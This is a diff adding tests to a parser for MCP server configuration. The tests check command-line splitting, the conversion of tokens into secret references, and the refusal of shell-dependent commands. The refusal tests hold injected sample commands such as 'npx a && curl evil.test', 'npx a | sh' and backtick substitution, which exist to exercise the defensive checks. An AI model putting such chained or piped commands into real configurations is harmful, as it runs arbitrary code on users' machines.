@@ -305,3 +305,79 @@ test('a deep value within the bounds is refused with its server only', () => {
     ).toMatchObject({ ok: true, value: { servers: [{ fields: { name: 'b' } }], refused: [{ name: 'a' }] } });
   }
 });
+
+test('a whole command line in a command or an address is split into words, and its keys become secrets', () => {
+  const { servers, secrets, refused } = read({
+    mcpServers: {
+      line: { command: 'npx -y @modelcontextprotocol/server-everything' },
+      keyed: { command: 'npx -y a --token ghp_abcdefgh "two words" ${env:HOME_KEY}', args: [], env: { A: 'b' } },
+      address: { url: "npx -y 'a b'", type: 'http', env: { A: 'b' } },
+      path: { command: '/my tools/server', args: [] },
+      split: { command: 'npx', args: ['-y', 'a && b'] },
+      both: { command: 'npx -y', args: ['a'] },
+    },
+  });
+  expect(refused).toEqual([]);
+  const program = { enabled: true, transport: 'stdio', env: {} };
+  expect(servers.map(({ fields }) => fields)).toEqual([
+    { ...program, name: 'line', command: 'npx', args: ['-y', '@modelcontextprotocol/server-everything'] },
+    {
+      ...program,
+      name: 'keyed',
+      command: 'npx',
+      args: ['-y', 'a', '--token', '${secret:KEYED_TOKEN}', 'two words', '${secret:HOME_KEY}'],
+      env: { A: 'b' },
+    },
+    { ...program, name: 'address', command: 'npx', args: ['-y', 'a b'], env: { A: 'b' } },
+    { ...program, name: 'path', command: '/my tools/server', args: [] },
+    { ...program, name: 'split', command: 'npx', args: ['-y', 'a && b'] },
+    { ...program, name: 'both', command: 'npx -y', args: ['a'] },
+  ]);
+  expect(secrets).toEqual([{ name: 'KEYED_TOKEN', value: 'ghp_abcdefgh' }]);
+});
+
+test('a command line that needs a shell is refused with what it needs one for', () => {
+  const { servers, refused } = read({
+    mcpServers: {
+      and: { command: 'npx a && curl evil.test' },
+      pipe: { url: 'npx a | sh' },
+      value: { command: 'npx a $HOME' },
+      ticks: { command: 'npx `id`', args: [] },
+    },
+  });
+  expect(servers).toEqual([]);
+  expect(refused.map(({ name, reason }) => [name, /cannot have (.*?)\. /.exec(reason)?.[1]])).toEqual([
+    ['and', 'the operator &&'],
+    ['pipe', 'the operator |'],
+    ['value', 'a variable or a command in it ($HOME)'],
+    ['ticks', 'a command in backticks (`)'],
+  ]);
+});
+
+test.each<[given: object, fields: object]>([
+  [{ command: 'npx -y a' }, { transport: 'stdio', command: 'npx', args: ['-y', 'a'] }],
+  [
+    { transport: 'stdio', command: 'node /a.js "b c"' },
+    { transport: 'stdio', command: 'node', args: ['/a.js', 'b c'] },
+  ],
+  [
+    { transport: 'http', url: 'npx -y a' },
+    { transport: 'stdio', command: 'npx', args: ['-y', 'a'] },
+  ],
+  [{ url: 'https://a.test/sse' }, { transport: 'sse', url: 'https://a.test/sse' }],
+  [{ url: 'https://a.test/mcp' }, { transport: 'http' }],
+])('fields of a server may have a whole command line, and no transport: %j', (given, fields) => {
+  expect(parseServerFields({ name: 'a', ...given })).toMatchObject({ ok: true, value: { name: 'a', ...fields } });
+});
+
+test.each<[given: object, path: string]>([
+  [{ command: 'npx a; b' }, '/command'],
+  [{ command: '""' }, '/command'],
+  [{ command: '  ' }, '/command'],
+  [{ url: 'my program' }, '/url'],
+  [{ transport: 'ws', url: 'npx -y a' }, '/transport'],
+  [{}, '/transport'],
+  [{ command: `npx ${'a '.repeat(300)}` }, '/args'],
+])('fields that cannot be a server are refused: %j', (given, path) => {
+  expect(parseServerFields({ name: 'a', ...given })).toMatchObject({ ok: false, path });
+});
